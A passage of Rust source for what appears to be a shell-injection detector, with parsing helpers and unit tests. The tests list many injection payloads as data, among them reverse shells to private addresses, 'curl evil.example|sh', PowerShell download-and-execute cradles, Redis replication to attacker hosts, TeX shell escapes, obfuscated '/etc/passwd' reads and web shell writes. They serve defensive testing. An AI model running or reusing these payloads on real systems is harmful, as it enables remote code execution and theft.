                    .all(|c| c.is_ascii_alphabetic() || matches!(c, b'*' | b'?'))
                && evidence_after(b, i) == Evidence::End;
            let globbed = kind.is_none()
                && !regex
                && !emphasis
                && !prefix_search
                && candidate.contains(['?', '*', '['])
                && self.glob_command(&candidate);
            let Some(strong) = kind.or(globbed.then_some(true)) else {
                // Perl's and Ruby's `system "touch /tmp/x"` and `exec 'id'` hand the string
                // to a shell (in Perl's `@{[ ... ]}` too): read it as the commands of a group.
                if matches!(
                    candidate.trim_start_matches('['),
                    "system" | "exec" | "spawn"
                ) && b[i..]
                    .iter()
                    .find(|c| !matches!(c, b' ' | b'\t'))
                    .is_some_and(|&c| c == b'"' || c == b'\'')
                {
                    sep = Sep::Group;
                    expect_cmd = true;
                    sep_end = i;
                    continue;
                }
                // An unknown word glued to a separator and followed by an option or a path
                // (`;perf --version`, `|foo /etc`) is still shell syntax.
                let glued =
                    sep_end == start && matches!(sep, Sep::Weak | Sep::Chain | Sep::Substitution);
                let word_like = candidate.len() >= 2
                    && candidate
                        .bytes()
                        .next()
                        .is_some_and(|c| c.is_ascii_alphabetic())
                    && candidate
                        .bytes()
                        .all(|c| c.is_ascii_alphanumeric() || c == b'-' || c == b'_' || c == b'.');
                if glued && word_like && evidence_after(b, i) == Evidence::Argument {
                    sink.hit(RCE_CHAINED_COMMAND, text, start);
                }
                continue;
            };
            // A command name glued to an argument list in parentheses is a function call in
            // a template or program (`{{ d | date('%d %B') }}`, `sleep(5)` in SQL is read by
            // the SQL rules), which no shell runs: `date(` is a syntax error there, and
            // `f() {` defines a function, so `()` stays shell.
            let raw_obfuscated = raw_is_obfuscated(raw);
            if b.get(i) == Some(&b'(') && b.get(i + 1) != Some(&b')') && !raw_obfuscated {
                continue;
            }
            let obfuscated = globbed || raw_obfuscated;
            if brace_list {
                sink.hit(RCE_BRACE_EXPANSION, text, start);
            }
            if obfuscated {
                sink.hit(RCE_OBFUSCATED_COMMAND, text, start);
            }
            let evidence = || evidence_after(b, i);
            // `sleep 5`, `ping 10.0.0.1` ending the command: a blind probe's delay.
            let timed =
                || matches!(candidate.as_str(), "sleep" | "ping" | "timeout") && number_ends(b, i);
            match sep {
                Sep::Substitution => sink.hit(RCE_SUBSTITUTION, text, start),
                Sep::Chain => sink.hit(RCE_CHAINED_COMMAND, text, start),
                // A strong command after a separator that is not prose needs no look at what
                // follows it.
                Sep::Weak
                    if timed()
                        || (strong && !prose_separator(b, sep_end))
                        || match evidence() {
                            Evidence::None => strong,
                            // `Shoes & more`, `Python | SQL | AWS`: a list in prose. A
                            // command that harms alone, or a shell fed by the pipe, still
                            // counts.
                            Evidence::End if prose_separator(b, sep_end) => {
                                ALONE_COMMANDS.contains(&candidate.as_str())
                                    || INTERPRETERS.contains(&candidate.as_str())
                            }
                            // Only the bare name: glued to more (`cat</etc/passwd`,
                            // `cat${IFS}x`) it has its argument.
                            Evidence::End => {
                                raw != candidate || !NEED_ARGUMENT.contains(&candidate.as_str())
                            }
                            _ => true,
                        } =>
                {
                    sink.hit(RCE_CHAINED_COMMAND, text, start)
                }
                Sep::Newline
                    if timed()
                        || match evidence() {
                            Evidence::Argument => true,
                            Evidence::End => strong || after_address_line(text),
                            Evidence::None => false,
                        } =>
                {
                    sink.hit(RCE_CHAINED_COMMAND, text, start)
                }
                Sep::Group if evidence() == Evidence::Argument => {
                    sink.hit(RCE_CHAINED_COMMAND, text, start)
                }
                Sep::CodeSpan => {
                    // A command named in prose (`` run `make test` first ``) is documentation
                    // unless it carries shell evidence: an option, path, URL, variable or
                    // redirection; an argument after a strong command; a command that is an
                    // attack alone (`whoami`); a delay (`sleep 10`, `ping 10.0.0.1`); or
                    // obfuscation. Without any, it counts only from paranoia level 2.
                    let ev = evidence();
                    if obfuscated
                        || timed()
                        || ev == Evidence::Argument
                        || (strong && ev == Evidence::None)
                        || (ev == Evidence::End && ALONE_COMMANDS.contains(&candidate.as_str()))
                    {
                        sink.hit(RCE_SUBSTITUTION, text, start)
                    } else {
                        sink.hit(RCE_CODE_SPAN_LOOSE, text, start)
                    }
                }
                Sep::Start if values => {
                    let ev = evidence();
                    if strong
                        && (ev == Evidence::Argument
                            || (ev == Evidence::End
                                && ALONE_COMMANDS.contains(&candidate.as_str())))
                    {
                        sink.hit(RCE_LEADING_COMMAND, text, start);
                    } else if ev == Evidence::Argument || (strong && ev == Evidence::End) {
                        sink.hit(RCE_LEADING_LOOSE, text, start);
                    }
                }
                _ => {}
            }
        }
    }

    /// Tokens like `/e??/pa*wd` or `/bin/ca[t]` that a shell would expand to a sensitive path.
    fn glob_path(&self, raw: &str, text: &str, start: usize, sink: &mut Sink<'_>) {
        if !raw.contains(['?', '*', '['])
            || !raw.contains('/')
            || raw.len() > 64
            || !sink.wants(RCE_GLOB_PATH)
        {
            return;
        }
        let cleaned: String = raw
            .chars()
            .filter(|c| !matches!(c, '\'' | '"' | '\\'))
            .collect();
        let Some(slash) = cleaned.find('/') else {
            return;
        };
        // `text/html;q=0.9,*/*;q=0.8`: media ranges of an Accept list, not a path (the shell
        // reading splits it at `;`, so a piece may also be a parameter such as `q=0.9`).
        if cleaned.split(',').all(|p| media_range(p) || media_param(p)) {
            return;
        }
        let path = &cleaned[slash..];
        if GLOB_TARGETS
            .iter()
            .any(|t| glob_match(path.as_bytes(), t.as_bytes()))
        {
            sink.hit(RCE_GLOB_PATH, text, start);
        }
    }
}

/// `type/subtype` with optional `;` parameters, either part `*` or a token.
fn media_range(s: &str) -> bool {
    let range = s.split(';').next().unwrap_or("").trim();
    let token = |t: &str| {
        !t.is_empty()
            && t.bytes()
                .all(|b| b.is_ascii_alphanumeric() || b"!#$&^_.+-*".contains(&b))
    };
    range
        .split_once('/')
        .is_some_and(|(ty, sub)| token(ty) && token(sub))
}

/// `name=value` of a media type's parameters, such as `q=0.9`.
fn media_param(s: &str) -> bool {
    s.split_once('=').is_some_and(|(k, v)| {
        !k.is_empty()
            && k.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
            && v.bytes()
                .all(|b| b.is_ascii_alphanumeric() || b"._-".contains(&b))
    })
}

/// Shells, which run what a pipe feeds them (`... | sh`). Language names (`Python | SQL`)
/// are left out: skill lists and titles have them.
const INTERPRETERS: &[&str] = &[
    "bash",
    "cmd",
    "dash",
    "ksh",
    "powershell",
    "pwsh",
    "sh",
    "zsh",
];

/// The separator that ends at `sep_end` is ` & ` or ` | ` between a word and the command:
/// `Shoes & more`, `Python | SQL | AWS`. An injected command follows an address, a number, a
/// file name or a quote (`127.0.0.1 & id`), or is glued to its separator.
fn prose_separator(b: &[u8], sep_end: usize) -> bool {
    let Some(before) = sep_end.checked_sub(2).map(|i| &b[..=i]) else {
        return false;
    };
    matches!(b[sep_end - 1], b'&' | b'|')
        && before.last() == Some(&b' ')
        && b.get(sep_end) == Some(&b' ')
        && before
            .trim_ascii_end()
            .rsplit(|c| c.is_ascii_whitespace())
            .next()
            .is_some_and(|w| w.len() >= 2 && w.iter().all(u8::is_ascii_alphabetic))
}

fn strongest(a: Sep, b: Sep) -> Sep {
    let rank = |s: Sep| match s {
        Sep::Start => 0,
        Sep::Newline | Sep::Group => 1,
        Sep::Weak => 2,
        Sep::Chain | Sep::CodeSpan => 3,
        Sep::Substitution => 4,
    };
    if rank(a) >= rank(b) { a } else { b }
}

/// The separator starting at `i`, with its length.
fn separator(b: &[u8], i: usize) -> Option<(Sep, usize)> {
    let next = b.get(i + 1).copied();
    match b[i] {
        b';' => Some((Sep::Weak, 1)),
        b'(' | b')' | b'{' | b'}' => Some((Sep::Group, 1)),
        b'\n' | b'\r' => Some((Sep::Newline, 1)),
        b'`' => Some((Sep::Substitution, 1)),
        b'&' if next == Some(b'&') => Some((Sep::Chain, 2)),
        b'|' if next == Some(b'|') => Some((Sep::Chain, 2)),
        b'&' | b'|' => Some((Sep::Weak, 1)),
        b'$' if next == Some(b'(') => Some((Sep::Substitution, 2)),
        b'<' | b'>' if next == Some(b'(') => Some((Sep::Substitution, 2)),
        _ => None,
    }
}

/// Where TeX's opening quotation marks stand (```` ``see \S 7'' ````): two backticks at the
/// start or after blank space or a bracket, before a letter, and closed by `''` before any
/// other backtick. To a shell two glued backticks are an empty substitution, nothing.
fn tex_quotes(b: &[u8]) -> Vec<usize> {
    let mut out = Vec::new();
    let mut from = 0;
    while let Some(at) = memchr::memmem::find(&b[from..], b"``").map(|p| p + from) {
        let after = at + 2;
        let opens = (at == 0 || matches!(b[at - 1], b' ' | b'\t' | b'\n' | b'(' | b'['))
            && b.get(after).is_some_and(|c| c.is_ascii_alphabetic());
        let rest = &b[after.min(b.len())..];
        let closed =
            memchr::memmem::find(rest, b"''").is_some_and(|close| !rest[..close].contains(&b'`'));
        if opens && closed && out.len() < 64 {
            out.push(at);
        }
        from = after;
    }
    out
}

/// Backtick pairs that read as Markdown code spans in prose (`` the `id` field is required ``),
/// as (open, close) offsets. A span opens at the start or after whitespace or `(`, holds text
/// and no line break, and closes before whitespace, punctuation or the end; outside the spans
/// the text has at least two words. When any backtick does not fit (an odd count, a doubled
/// backtick, a span glued to a word as in ``x`id` ``), there are none: every backtick is then
/// command substitution.
fn code_spans(b: &[u8], fences: &[(usize, usize)]) -> Vec<(usize, usize)> {
    let in_fence = |i: &usize| fences.iter().any(|&(s, e)| (s..e).contains(i));
    let ticks: Vec<usize> = memchr::memchr_iter(b'`', b)
        .filter(|i| !in_fence(i))
        .take(33)
        .collect();
    if ticks.len() % 2 == 1 || ticks.len() > 32 {
        return Vec::new();
    }
    let spans: Vec<(usize, usize)> = ticks.chunks_exact(2).map(|p| (p[0], p[1])).collect();
    let fits = |&(open, close): &(usize, usize)| {
        close > open + 1
            && (open == 0 || matches!(b[open - 1], b' ' | b'\t' | b'\n' | b'('))
            && !b[open + 1..close].iter().any(|&c| c == b'\n' || c == b'\r')
            && b.get(close + 1).is_none_or(|&c| {
                matches!(
                    c,
                    b' ' | b'\t' | b'\n' | b'\r' | b'.' | b',' | b';' | b':' | b'!' | b'?' | b')'
                )
            })
    };
    if !spans.iter().all(fits) {
        return Vec::new();
    }
    // Words of two or more letters outside the spans (bytes of non-ASCII letters count).
    let mut words = 0;
    let mut run = 0;
    let mut next = spans.iter().peekable();
    let mut i = 0;
    while i < b.len() && words < 2 {
        if let Some(&&(open, close)) = next.peek()
            && i == open
        {
            next.next();
            i = close + 1;
            run = 0;
            continue;
        }
        if b[i].is_ascii_alphabetic() || b[i] >= 0x80 {
            run += 1;
            if run == 2 {
                words += 1;
            }
        } else {
            run = 0;
        }
        i += 1;
    }
    if words < 2 {
        return Vec::new();
    }
    spans
}

/// Languages a Markdown code fence names, sorted: the word after the backticks is one of
/// these or nothing. Anything else there could be a command the backticks substitute
/// (```` ```id ````).
const FENCE_LANGUAGES: [&str; 73] = [
    "bash",
    "c",
    "c#",
    "c++",
    "clojure",
    "console",
    "cpp",
    "cs",
    "csharp",
    "css",
    "csv",
    "dart",
    "diff",
    "docker",
    "dockerfile",
    "elixir",
    "erlang",
    "go",
    "golang",
    "gradle",
    "graphql",
    "groovy",
    "haskell",
    "hcl",
    "html",
    "http",
    "ini",
    "java",
    "javascript",
    "jinja",
    "js",
    "json",
    "jsx",
    "julia",
    "kotlin",
    "kt",
    "latex",
    "less",
    "lua",
    "makefile",
    "markdown",
    "matlab",
    "md",
    "nginx",
    "objc",
    "perl",
    "php",
    "plaintext",
    "powershell",
    "properties",
    "proto",
    "ps1",
    "py",
    "python",
    "r",
    "rb",
    "ruby",
    "rust",
    "sass",
    "scala",
    "scss",
    "sh",
    "shell",
    "sql",
    "swift",
    "terraform",
    "text",
    "toml",
    "ts",
    "tsx",
    "xml",
    "yaml",
    "yml",
];

/// Markdown code fences: a line of three or more backticks and an optional language from
/// [`FENCE_LANGUAGES`] (```` ```python ````), closed by a later line of at least as many
/// backticks alone. Each fence line's backticks and language, as (start, end) offsets, in
/// order; the code between is read as any other text, so a command in it still counts. A
/// fence never closed is no fence.
fn fences(b: &[u8]) -> Vec<(usize, usize)> {
    let mut out = Vec::new();
    let mut open: Option<(usize, usize, usize)> = None;
    let mut line = 0;
    while line < b.len() && out.len() < 64 {
        let end = memchr::memchr(b'\n', &b[line..]).map_or(b.len(), |i| line + i);
        let text = &b[line..end];
        let indent = text.iter().take(3).take_while(|&&c| c == b' ').count();
        let run = text[indent..].iter().take_while(|&&c| c == b'`').count();
        if run >= 3 {
            let ticks_end = line + indent + run;
            let rest = b[ticks_end..end].trim_ascii();
            let language = String::from_utf8_lossy(rest).to_ascii_lowercase();
            match open {
                None if rest.is_empty()
                    || FENCE_LANGUAGES.binary_search(&language.as_str()).is_ok() =>
                {
                    open = Some((line + indent, end, run));
                }
                Some((start, open_end, need)) if rest.is_empty() && run >= need => {
                    out.push((start, open_end));
                    out.push((line + indent, end));
                    open = None;
                }
                _ => {}
            }
        }
        line = end + 1;
    }
    out
}

/// A number (digits and dots) follows the command and ends it: `sleep 10`, `ping 10.0.0.1;`,
/// but not `sleep 8 hours`.
fn number_ends(b: &[u8], mut i: usize) -> bool {
    while i < b.len() && matches!(b[i], b' ' | b'\t') {
        i += 1;
    }
    let start = i;
    while i < b.len() && (b[i].is_ascii_digit() || b[i] == b'.') {
        i += 1;
    }
    i > start && b[start].is_ascii_digit() && evidence_after(b, i) == Evidence::End
}

/// The text's first line is one word with a digit or a dot, such as a host name, an address or
/// an interface (`eth0`, `example.org`): the value a tool was given, with a command on the
/// next line. A first line of prose or a list of words is not.
fn after_address_line(text: &str) -> bool {
    let first = text.split(['\n', '\r']).next().unwrap_or("").trim();
    !first.is_empty()
        && !first.contains(char::is_whitespace)
        && first.contains(|c: char| c.is_ascii_digit() || c == '.')
}

#[derive(Debug, PartialEq, Eq)]
enum Evidence {
    None,
    /// End of input or another separator right after the command.
    End,
    /// An option, path, variable, redirection or quoted argument follows.
    Argument,
}

/// Whether `b` opens with an HL7 v2 escape sequence standing as a word: a backslash, one to
/// three letters, digits or dots, a backslash, then a space or the end (`\T\ fever`).
fn hl7_escape(b: &[u8]) -> bool {
    let inner = b[1..]
        .iter()
        .take(4)
        .take_while(|c| c.is_ascii_alphanumeric() || **c == b'.')
        .count();
    (1..=3).contains(&inner)
        && b.get(1 + inner) == Some(&b'\\')
        && b.get(2 + inner).is_none_or(|c| matches!(c, b' ' | b'\t'))
}

fn evidence_after(b: &[u8], mut i: usize) -> Evidence {
    while i < b.len() && matches!(b[i], b' ' | b'\t') {
        i += 1;
    }
    let Some(&c) = b.get(i) else {
        return Evidence::End;
    };
    if separator(b, i).is_some() {
        return Evidence::End;
    }
    match c {
        // `/>` closes an empty markup element (`<foo val=`bar' />`): no path.
        b'/' if b.get(i + 1) == Some(&b'>') => Evidence::None,
        // An option is `-x` or `--name` (quoted or escaped as a shell reads it, `-'e'`); a
        // dash standing alone (`Stadtwerke -- Kd-Nr`, `Q2 - draft`) is prose's dash unless a
        // path or variable follows it (`cat - /etc/passwd`).
        b'-' => {
            let dashes = b[i..].iter().take(2).take_while(|&&c| c == b'-').count();
            let option = b
                .get(i + dashes)
                .is_some_and(|c| c.is_ascii_alphanumeric() || b"'\"\\$".contains(c));
            let next = b[i + dashes..].iter().find(|c| !matches!(c, b' ' | b'\t'));
            if option || next.is_some_and(|c| b"/~$<>".contains(c)) {
                Evidence::Argument
            } else {
                Evidence::None
            }
        }
        // `~` is a home folder only before a name or `/` (`~/x`, `~root`): R's and
        // Patsy's formulas write `y ~ x`.
        b'~' if !b
            .get(i + 1)
            .is_some_and(|c| *c == b'/' || c.is_ascii_alphanumeric()) =>
        {
            Evidence::None
        }
        // HL7's escapes (`\T\`, `\F\`, `\.br\`) standing as a word are text, not a path.
        b'\\' if hl7_escape(&b[i..]) => Evidence::None,
        b'/' | b'~' | b'$' | b'>' | b'<' | b'*' | b'\\' => Evidence::Argument,
        // `./x`, `../x`, and `.` or `..` standing alone: the working folder or its parent.
        b'.' if matches!(b.get(i + 1), Some(b'/' | b'.')) => Evidence::Argument,
        b'.' if b.get(i + 1).is_none_or(|&c| matches!(c, b' ' | b'\t')) => Evidence::Argument,
        b'a'..=b'z'
            if b[i..]
                .iter()
                .take(12)
                .position(|&c| c == b':')
                .is_some_and(|p| b[i..].get(p + 1..p + 3) == Some(b"//")) =>
        {
            Evidence::Argument
        }
        b'a'..=b'z'
            if b.get(i + 1) == Some(&b':') && matches!(b.get(i + 2), Some(b'/' | b'\\')) =>
        {
            Evidence::Argument
        }
        _ => Evidence::None,
    }
}

/// Removes what a shell would remove from a command word: quotes, backslashes, `$@`, `$*`,
/// positional `$1`, empty `${}`; strips a directory (`/usr/bin/id`, `c:\windows\…\cmd.exe`) and
/// Windows executable suffixes.
fn clean_word(raw: &str) -> String {
    let mut out = String::with_capacity(raw.len());
    let mut chars = raw.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\'' | '"' | '\\' | '^' => {}
            '$' => match chars.peek() {
                // `$$` is the shell's process id, not empty as `$@` is, but evasion lists
                // split command names with it (`c$$at`) and no command name holds one.
                Some('@' | '*' | '$' | '0'..='9') => {
                    chars.next();
                }
                Some('{') => {
                    // `${}` and `${x}` with an unknown x are dropped.
                    let mut depth = 0;
                    for n in chars.by_ref() {
                        if n == '{' {
                            depth += 1;
                        } else if n == '}' {
                            depth -= 1;
                            if depth == 0 {
                                break;
                            }
                        }
                    }
                }
                _ => out.push(c),
            },
            _ => out.push(c),
        }
    }
    let base = out.rsplit('/').next().unwrap_or("");
    let base = base.trim_matches(|c: char| c == '{' || c == '}');
    let base = base
        .strip_suffix(".exe")
        .or_else(|| base.strip_suffix(".com"))
        .unwrap_or(base);
    base.to_owned()
}

fn raw_is_obfuscated(raw: &str) -> bool {
    let quotes = raw.chars().filter(|c| matches!(c, '\'' | '"')).count();
    let letters_inside = raw.trim_matches(|c: char| !c.is_ascii_alphanumeric());
    (quotes >= 2 && letters_inside.contains(['\'', '"']))
        || letters_inside.contains('\\')
        || raw.contains("$@")
        || raw.contains("$$")
        || raw.contains("${")
        || letters_inside.contains('^')
}

/// The names of the variables a word is made of (`$a$b`, `${SHELL}`, `$0`), or `None` when it
/// holds anything else.
fn expansion_names(word: &str) -> Option<Vec<&str>> {
    let mut names = Vec::new();
    let mut rest = word;
    while !rest.is_empty() {
        rest = rest.strip_prefix('$')?;
        let (name, after) = match rest.strip_prefix('{') {
            Some(inner) => inner.split_once('}')?,
            None if rest.starts_with(|c: char| c.is_ascii_digit()) => rest.split_at(1),
            None => rest.split_at(
                rest.find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                    .unwrap_or(rest.len()),
            ),
        };
        let valid = name.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_')
            && (name.len() == 1 || name.starts_with(|c: char| !c.is_ascii_digit()));
        if name.is_empty() || !valid || names.len() == 8 {
            return None;
        }
        names.push(name);
        rest = after;
    }
    (!names.is_empty()).then_some(names)
}

fn is_assignment(word: &str) -> bool {
    match word.find('=') {
        Some(eq) => {
            eq > 0
                && word[..eq]
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b == b'_')
        }
        None => false,
    }
}

/// Shell glob match (`?`, `*`, `[abc]`, `[!a]`, `[a-z]`), O(pattern × text) dynamic programming.
/// As in pathname expansion, no wildcard matches a `/`: `/*` names the top-level folders, not
/// `/etc/passwd`.
pub(crate) fn glob_match(pat: &[u8], text: &[u8]) -> bool {
    if pat.len() > 64 || text.len() > 64 {
        return false;
    }
    // prev[j]: pattern consumed so far matches text[..j].
    let mut prev = vec![false; text.len() + 1];
    prev[0] = true;
    let mut p = 0;
    while p < pat.len() {
        let mut cur = vec![false; text.len() + 1];
        let (len, class) = match pat[p] {
            b'[' => match class_end(pat, p) {
                Some(end) => (end - p + 1, Some(&pat[p + 1..end])),
                None => (1, None),
            },
            _ => (1, None),
        };
        match (pat[p], class) {
            (b'*', _) => {
                cur[0] = prev[0];
                for j in 1..=text.len() {
                    cur[j] = prev[j] || (cur[j - 1] && text[j - 1] != b'/');
                }
            }
            (_, Some(set)) => {
                for j in 1..=text.len() {
                    cur[j] = prev[j - 1] && text[j - 1] != b'/' && class_matches(set, text[j - 1]);
                }
            }
            (c, None) => {
                for j in 1..=text.len() {
                    cur[j] =
                        prev[j - 1] && ((c == b'?' && text[j - 1] != b'/') || c == text[j - 1]);
                }
            }
        }
        prev = cur;
        p += len;
    }
    prev[text.len()]
}

fn class_end(pat: &[u8], open: usize) -> Option<usize> {
    let mut i = open + 1;
    if matches!(pat.get(i), Some(b'!' | b'^')) {
        i += 1;
    }
    if pat.get(i) == Some(&b']') {
        i += 1;
    }
    pat[i.min(pat.len())..]
        .iter()
        .position(|&c| c == b']')
        .map(|off| i + off)
}

fn class_matches(set: &[u8], c: u8) -> bool {
    let (negate, set) = match set.first() {
        Some(b'!' | b'^') => (true, &set[1..]),
        _ => (false, set),
    };
    let mut found = false;
    let mut i = 0;
    while i < set.len() {
        if i + 2 < set.len() && set[i + 1] == b'-' {
            found |= (set[i]..=set[i + 2]).contains(&c);
            i += 3;
        } else {
            found |= set[i] == c;
            i += 1;
        }
    }
    found != negate
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::testing::{families, flags, hits, rule, silent};
    use crate::extract::Kind;

    #[test]
    fn command_lists_are_sorted() {
        for l in [
            STRONG_COMMANDS,
            WEAK_COMMANDS,
            PREFIX_WORDS,
            GLOB_TARGETS,
            ALONE_COMMANDS,
            NEED_ARGUMENT,
        ] {
            assert!(
                l.windows(2).all(|w| w[0] < w[1]),
                "{:?}",
                l.windows(2).find(|w| w[0] >= w[1])
            );
        }
    }

    #[test]
    fn cmd_exe_quoted_as_a_name_or_run() {
        rule(
            RCE_WINDOWS,
            true,
            Kind::Value,
            "query:q",
            1,
            &[
                "\"cmd.exe\" /c whoami",
                "Popen(['cmd.exe','/c','calc'])",
                "x & cmd.exe",
                "C:\\Windows\\System32\\cmd.exe",
            ],
        );
        rule(
            RCE_WINDOWS,
            false,
            Kind::Value,
            "json:/query",
            1,
            &["process where process.name : \"cmd.exe\" and process.args : \"whoami\""],
        );
        // A regular expression's classes are no glob; a command wrapped in `^…$` still is.
        assert!(
            !hits(
                Kind::Value,
                "json:/pattern",
                "^[a-z0-9]([-a-z0-9]*[a-z0-9])?$",
                1
            )
            .contains(&RCE_OBFUSCATED_COMMAND)
        );
        assert!(
            hits(Kind::Value, "query:q", "^;/???/?c?t /???/p??s??;$", 1)
                .contains(&RCE_OBFUSCATED_COMMAND)
        );
    }

    #[test]
    fn redis_commands_that_write_files_or_load_code() {
        for (kind, label, text) in [
            (
                Kind::Path,
                "path",
                "/CONFIG/SET/dir/%2Fvar%2Fspool%2Fcron%2Fcrontabs",
            ),
            (Kind::Path, "path", "/CONFIG/SET/dbfilename/root"),
            (Kind::Path, "path", "/SLAVEOF/203.0.113.50/21000"),
            (Kind::Path, "path", "/MODULE/LOAD/%2Ftmp%2Fexp.so"),
            (
                Kind::Value,
                "query:url",
                "gopher://127.0.0.1:6379/_x\r\nCONFIG SET dir /var/www\r\n",
            ),
            (Kind::Value, "form:cmd", "REPLICAOF evil.example 6379"),
        ] {
            assert!(hits(kind, label, text, 1).contains(&RCE_REDIS), "{text}");
        }
        for (kind, label, text) in [
            (Kind::Path, "path", "/api/config/settings/dir"),
            (Kind::Value, "query:q", "run SLAVEOF NO ONE to promote it"),
            (
                Kind::Value,
                "query:q",
                "how does config set dir work in redis",
            ),
            (Kind::Path, "path", "/docs/module/loader"),
            (
                Kind::Value,
                "form:script",
                "#!/bin/bash\nmodule load gcc/12.2\nsrun ./a.out",
            ),
        ] {
            assert!(!hits(kind, label, text, 1).contains(&RCE_REDIS), "{text}");
        }
    }

    #[test]
    fn ruby_calls_that_run_commands() {
        rule(
            RCE_RUBY,
            true,
            Kind::Value,
            "query:q",
            1,
            &[
                "Process.spawn(\"id\")",
                "Open3.capture2e('uname -a')",
                "PTY.spawn 'bash'",
                "%x(cat /etc/hosts)",
                "a=%x{ls -la}",
                "send(:system, 'id')",
                "Kernel.public_send(\"exec\", \"id\")",
            ],
        );
        rule(
            RCE_RUBY,
            false,
            Kind::Value,
            "query:q",
            1,
            &[
                "printf(\"0x%x(%d)\", a, b)",
                "grew 40%x(over 2 years)",
                "send(:notify, user)",
                "%d [%t] %X{traceId} %X{span.id} - %msg%n",
                "%5p [${spring.application.name:},%X{traceId:-},%X{spanId:-}]",
                "printf(\"%x(%d)\", a, b)",
                "Process.spawn is preferred over system",
                "send \"System\" report",
                "the process spawns workers",
            ],
        );
    }

    #[test]
    fn detects_chained_and_obfuscated_commands() {
        flags(
            "rce",
            &[
                "127.0.0.1; cat /etc/passwd",
                "x|id",
                "foo && whoami",
                "a`uname -a`",
                "$(wget http://x/y)",
                "ti''me sh -c whoami",
                "c'a't /e't'c/pass'wd'",
                "www.example.com;c$$at /et$$c/pas$$swd",
                ";c\\at${IFS}/etc/passwd",
                "/etc/[!q]asswd",
                ";/bin/ca? /et*/passwd",
                "{id,}",
                "; ls -la",
                "| dir c:\\",
                "& net user admin /add",
                "x; powershell -enc AAAA",
                "() { :; }; /bin/bash -c id",
                "1;sleep${IFS}5",
                "1.2.3.4;${PATH:0:1}bin${PATH:0:1}id",
                "a|${HOME::1}usr${HOME::1}bin${HOME::1}whoami",
                "8.8.8.8;X=$'uname\\x20-a'&&$X",
                "8.8.8.8;a=i;b=d;$a$b",
                "8.8.8.8;$0<<<id",
                "8.8.8.8;${SHELL} -c id",
                "8.8.8.8; find . -exec id \\;",
                "a\nnc -e /bin/sh 10.0.0.1 4444",
                "x; sleep 5",
                "example.org\nid\n",
                "eth0\nid",
                "1.1.1.1\nping 10.0.0.1",
                "example.com||$(rev<<<'di')",
                "{{7*'7'}}",
                "<%= 7*7 %>",
                "{{['id']|filter('system')}}",
                "${{<%[%'\"}}%\\.",
                "--upload-pack=touch /tmp/pwned",
                "-oProxyCommand=curl evil.example|sh",
                "1.2.0 --post-renderer /tmp/pr.sh",
                "-oLocalCommand=id",
                "https://example.jp/a.pdf\u{FF02} -o C:\\inetpub\\wwwroot\\shell.aspx \u{FF02}https://evil.example/s",
                "x --output=/var/www/html/s.php",
                "output=/opt/activemq/webapps/admin/shell.jsp",
                "name=x duration=10s filename=/opt/activemq/webapps/api/shell.jsp",
                "duration=10s filename=\"/opt/app/webapps/ROOT/s.jsp\"",
                "a.pdf\" -oC:\\inetpub\\wwwroot\\s.aspx",
                "--output-dir /var/www/html/x.php",
                "eve@example.com\t-oQ/tmp/\t-X/var/www/html/sq.php\t-be",
                "-Mailbox admin -FilePath \\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\x.aspx",
                "@{[system \"touch /tmp/blns.fail\"]}",
                "system 'cat /etc/hosts'",
                "exec \"nc -e /bin/sh 10.0.0.1 4444\"",
            ],
        );
        silent(
            "rce",
            &[
                "the output index.php returns is empty",
                "-o index.html",
                "level=error filename=/srv/app/index.php line=42",
                "helm upgrade web ./chart --post-renderer --help",
            ],
        );
        flags("rce", &["x |id", "x& id", "127.0.0.1|>o id"]);
    }

    #[test]
    fn converters_told_to_run_commands() {
        rule(
            RCE_CONVERTER_COMMAND,
            true,
            Kind::FileContent,
            "file-content:file",
            1,
            &[
                "%!PS\nmark /OutputFile (%pipe%curl http://x.example/s|sh) currentdevice putdeviceprops",
                "AT&TFORM\0\0\0\x08DJVUANTa(metadata \"\\c${system('id')};\")",
            ],
        );
        rule(
            RCE_CONVERTER_COMMAND,
            false,
            Kind::Value,
            "json:/note",
            1,
            &[
                "the pipe is 50% off (metadata below)",
                "(metadata \"Author\" \"Kim\")",
            ],
        );
    }

    #[test]
    fn windows_batch_loops_and_conditions() {
        rule(
            RCE_WINDOWS_BATCH,
            true,
            Kind::Value,
            "query:foo",
            1,
            &[
                "for %variable in (set) do command",
                "for /r c:\\ %variable in (set) do command",
                "FOR /D /D        %a IN (dirs) DO abc",
                "& FOR %2 IN (a,b,c) DO cmd",
                "& FOR %~ IN (a,b,c)DO cmd",
                "FOR /F \"tokens=1,2* delims=,\" %% IN (C:\\x.txt) DO ECHO %%",
                "IF        [%1] EQU []            ECHO Value Missing",
                "IF        (2 GEQ 15)             echo \"bigger\"",
                "if not (2 equ 2) echo hey",
                "IF [%1]==[/?] ...",
                "if not {%1} == {}",
                "if (AA) == (AA) echo same",
                "if a==b foo",
                "if /i a==b foo",
                "IF    NOT red===red              echo test",
            ],
        );
        rule(
            RCE_WINDOWS_BATCH,
            false,
            Kind::Value,
            "json:/message",
            1,
            &[
                "if a==b: return",
                "if err==nil {",
                "if (a == b) { x() }",
                "if x == y then stop",
                "save 20% for items in (our) sale",
                "look for the best in (any) shop",
                "ifq a==b foo",
                "if3 a==b foo",
                "if you equal me",
            ],
        );
    }

    #[test]
    fn powershell_sockets_and_piped_expressions() {
        rule(
            RCE_WINDOWS,
            true,
            Kind::Value,
            "json:/proxy",
            1,
            &[
                "x'; $c=New-Object System.Net.Sockets.TCPClient('10.66.0.9',443);$s=$c.GetStream()",
                "(New-Object Net.WebClient).DownloadString('http://x.example/a') | iex",
                "$r=(iex $d 2>&1|Out-String)",
                "$payload | iex",
                "localhost; sal x ('I'+'EX'); x (irm -Uri ('ht'+'tp://198.51.100.23/a'))",
                "Set-Alias -Name run -Value Invoke-Expression",
            ],
        );
        rule(
            RCE_WINDOWS,
            false,
            Kind::Value,
            "json:/text",
            1,
            &["the iex index fell 2%", "IEX Cloud pricing | compare"],
        );
    }

    #[test]
    fn tex_shell_escapes() {
        rule(
            RCE_TEX_SHELL,
            true,
            Kind::Value,
            "json:/source",
            1,
            &[
                "\\immediate\\write18{curl -s http://203.0.113.7/x | sh}",
                "\\write18 {rm -rf ~}",
                "\\input{|\"cat /etc/passwd\"}",
